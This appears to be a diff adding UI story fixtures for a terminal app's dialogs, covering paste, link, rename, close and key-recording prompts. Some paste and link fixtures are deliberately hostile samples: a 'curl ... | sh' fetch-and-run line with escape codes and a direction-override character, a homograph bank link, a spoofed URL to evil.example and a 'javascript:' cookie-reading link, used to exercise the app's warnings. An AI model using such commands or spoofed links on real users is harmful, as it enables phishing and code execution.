@@ -1,0 +1,66 @@
+import type { ReactNode } from 'react';
+import type { Story } from '../../stories/index.ts';
+import { CloseDialog } from './close-dialog.tsx';
+import type { BusyPane } from './close-guard.ts';
+import { LinkDialog } from './link-dialog.tsx';
+import { inspectLink } from './link.ts';
+import { PasteDialog } from './paste-dialog.tsx';
+import { RecordKeysDialog } from './record-keys-dialog.tsx';
+import { RenameDialog } from './rename-dialog.tsx';
+import { keeping, nothing, playing, RECORDED, tab, TERMINALS_STATE } from './story-data.tsx';
+import { TerminalsPage } from './terminals-page.tsx';
+
+/** A terminal that runs, and what is asked before it. */
+const asking = (name: string, dialog: ReactNode): Story => ({
+  name: `terminals/${name}`,
+  state: TERMINALS_STATE,
+  answers: playing(RECORDED),
+  frame: 'none',
+  render: () => (
+    <main style={{ height: '100%' }}>
+      <TerminalsPage storage={keeping([tab(1)])} />
+      {dialog}
+    </main>
+  ),
+});
+const paste = (pasted: string): ReactNode => <PasteDialog text={pasted} onPaste={nothing} onClose={nothing} />;
+const link = (target: string, seen: string): ReactNode => (
+  <LinkDialog link={inspectLink(target, seen)} peer="office" onClose={nothing} />
+);
+const rename = (name: string): ReactNode => (
+  <RenameDialog tab={{ name, title: 'mira@office: ~/project' }} onRename={nothing} onClose={nothing} />
+);
+
+const closing = (count: number, ...busy: readonly (readonly [program: string, title: string])[]): ReactNode => (
+  <CloseDialog
+    busy={busy.map(([program], pane): BusyPane => ({ pane, program }))}
+    count={count}
+    titleOf={(pane) => busy[pane]?.[1] ?? ''}
+    onCloseTerminals={nothing}
+    onClose={nothing}
+  />
+);
+
+export const TERMINAL_DIALOGS_STORIES: readonly Story[] = [
+  asking('paste of several lines', paste('cd /srv/app\ngit pull --ff-only\n./deploy.sh --production\n')),
+  asking('paste with control characters', paste('\necho \u001b[31mred\u0007\u202e && curl https://example.org | sh')),
+  asking('paste of long lines', paste(`${'a-long-word-'.repeat(40)}\n`.repeat(300))),
+  asking('link', link('https://example.org/help?page=2', 'https://example.org/help?page=2')),
+  asking('link to another host', link('https://xn--bnk-7cd.example/login?from=terminal', 'https://bank.example/')),
+  asking('link that warns of all', link(`http://bank.example@evil.example:8080/${'path/'.repeat(40)}`, 'Sign in')),
+  asking('link for mail', link('mailto:mira@example.org', 'mira@example.org')),
+  asking('link refused', link('javascript:alert(document.cookie)', 'https://bank.example/')),
+  asking('record what is typed', <RecordKeysDialog onRecord={nothing} onClose={nothing} />),
+  asking('close one in which a program runs', closing(1, ['sleep', 'mira@office: ~/project'])),
+  asking(
+    'close several in which programs run',
+    closing(
+      4,
+      ['make', 'make -j8 all'],
+      ['vim', 'vim a-file-with-quite-a-long-name-that-somebody-has-given-it.md'],
+      ['a-program-with-a-name-of-sixty-four-characters-which-is-the-most', 'office'],
+    ),
+  ),
+  asking('rename', rename('')),
+  asking('rename with a name', rename('logs of the web server')),
+];
